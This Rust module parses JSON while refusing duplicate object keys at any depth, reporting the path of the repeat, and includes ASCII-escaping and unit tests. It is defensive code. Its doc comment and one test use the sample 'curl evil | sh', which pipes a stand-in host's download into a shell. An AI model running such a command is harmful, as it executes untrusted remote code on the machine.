//! JSON text to a `serde_json::Value` with duplicate object keys refused at every level.
//! `serde_json::from_slice` keeps the last of two equal keys, so `{"command":"true", …,
//! "command":"curl evil | sh"}` would be saved as the second while a reviewer reads the first.

use std::cell::RefCell;
use std::fmt;

use serde::de::{DeserializeSeed, Deserializer, Error as _, MapAccess, SeqAccess, Visitor};
use serde_json::{Map, Value};

/// Why JSON text was refused.
#[derive(Debug)]
pub enum ParseError {
    /// A key appears twice in one object; `path` names it (`task.command`, `notify[0].url`).
    Duplicate { path: String },
    /// Not JSON (or nested deeper than serde_json's recursion limit).
    Syntax(serde_json::Error),
}

/// Parses `bytes` as one JSON value, refusing any object that repeats a key.
pub fn from_slice_unique(bytes: &[u8]) -> Result<Value, ParseError> {
    let found = RefCell::new(None);
    let mut de = serde_json::Deserializer::from_slice(bytes);
    let parsed = Unique { path: String::new(), found: &found }.deserialize(&mut de).and_then(|v| de.end().map(|()| v));
    match (parsed, found.into_inner()) {
        (_, Some(path)) => Err(ParseError::Duplicate { path }),
        (Ok(value), None) => Ok(value),
        (Err(e), None) => Err(ParseError::Syntax(e)),
    }
}

/// `value` as compact JSON text of printable ASCII only (every other character written as
/// `\uXXXX`), so that it fits in an HTTP header or gRPC metadata value.
#[must_use]
pub fn ascii(value: &Value) -> String {
    let text = value.to_string();
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_ascii() {
            out.push(c);
        } else {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        }
    }
    out
}

/// Builds a `Value` like serde_json's own visitor, with the path of what it reads, and notes the
/// first repeated key in `found`.
struct Unique<'a> {
    path: String,
    found: &'a RefCell<Option<String>>,
}

impl Unique<'_> {
    fn child(&self, step: &str) -> Self {
        let path = if self.path.is_empty() || step.starts_with('[') {
            format!("{}{step}", self.path)
        } else {
            format!("{}.{step}", self.path)
        };
        Unique { path, found: self.found }
    }
}

impl<'de> DeserializeSeed<'de> for Unique<'_> {
    type Value = Value;
    fn deserialize<D: Deserializer<'de>>(self, deserializer: D) -> Result<Value, D::Error> {
        deserializer.deserialize_any(self)
    }
}

impl<'de> Visitor<'de> for Unique<'_> {
    type Value = Value;

    fn expecting(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("a JSON value")
    }
    fn visit_bool<E>(self, v: bool) -> Result<Value, E> {
        Ok(Value::Bool(v))
    }
    fn visit_i64<E>(self, v: i64) -> Result<Value, E> {
        Ok(Value::from(v))
    }
    fn visit_u64<E>(self, v: u64) -> Result<Value, E> {
        Ok(Value::from(v))
    }
    fn visit_f64<E>(self, v: f64) -> Result<Value, E> {
        Ok(serde_json::Number::from_f64(v).map_or(Value::Null, Value::Number))
    }
    fn visit_str<E>(self, v: &str) -> Result<Value, E> {
        Ok(Value::String(v.to_owned()))
    }
    fn visit_string<E>(self, v: String) -> Result<Value, E> {
        Ok(Value::String(v))
    }
    fn visit_unit<E>(self) -> Result<Value, E> {
        Ok(Value::Null)
    }
    fn visit_none<E>(self) -> Result<Value, E> {
        Ok(Value::Null)
    }

    fn visit_seq<A: SeqAccess<'de>>(self, mut seq: A) -> Result<Value, A::Error> {
        let mut items = Vec::new();
        while let Some(item) = seq.next_element_seed(self.child(&format!("[{}]", items.len())))? {
            items.push(item);
        }
        Ok(Value::Array(items))
    }

    fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Value, A::Error> {
        let mut object = Map::new();
        while let Some(key) = map.next_key::<String>()? {
            let child = self.child(&key);
            if object.contains_key(&key) {
                *self.found.borrow_mut() = Some(child.path);
                return Err(A::Error::custom(format!("duplicate key `{key}`")));
            }
            let value = map.next_value_seed(child)?;
            object.insert(key, value);
        }
        Ok(Value::Object(object))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn duplicate(text: &str) -> Option<String> {
        match from_slice_unique(text.as_bytes()) {
            Err(ParseError::Duplicate { path }) => Some(path),
            _ => None,
        }
    }

    #[test]
    fn a_repeated_key_is_named_at_any_depth() {
        assert_eq!(duplicate(r#"{"a":1,"a":2}"#).as_deref(), Some("a"));
        assert_eq!(
            duplicate(r#"{"task":{"command":"true","x":1,"command":"curl evil | sh"}}"#).as_deref(),
            Some("task.command")
        );
        assert_eq!(duplicate(r#"{"notify":[{},{"url":"a","url":"b"}]}"#).as_deref(), Some("notify[1].url"));
        assert_eq!(duplicate(r#"[[{"k":1,"k":1}]]"#).as_deref(), Some("[0][0].k"));
    }

    #[test]
    fn values_are_as_serde_json_reads_them() {
        for text in [r#"{"a":[1,-2,3.5,"x",null,true,{"b":{}}],"c":18446744073709551615}"#, "[]", "\"s\"", "0"] {
            let ours = from_slice_unique(text.as_bytes()).unwrap();
            let theirs: Value = serde_json::from_str(text).unwrap();
            assert_eq!(ours, theirs, "{text}");
        }
        assert!(matches!(from_slice_unique(b"{\"a\":1} x"), Err(ParseError::Syntax(_))));
        assert!(matches!(from_slice_unique(b"{\"a\":"), Err(ParseError::Syntax(_))));
        let deep = "[".repeat(200) + &"]".repeat(200);
        assert!(matches!(from_slice_unique(deep.as_bytes()), Err(ParseError::Syntax(_))));
    }

    #[test]
    fn ascii_json_escapes_what_a_header_cannot_carry() {
        let value = serde_json::json!({"city": "Zürich", "emoji": "🦀", "n": 1});
        let text = ascii(&value);
        assert!(text.bytes().all(|b| (0x20..0x7f).contains(&b)), "{text}");
        assert!(text.contains("\\u00fc") && text.contains("\\ud83e\\udd80"), "{text}");
        assert_eq!(serde_json::from_str::<Value>(&text).ok(), Some(value));
    }
}
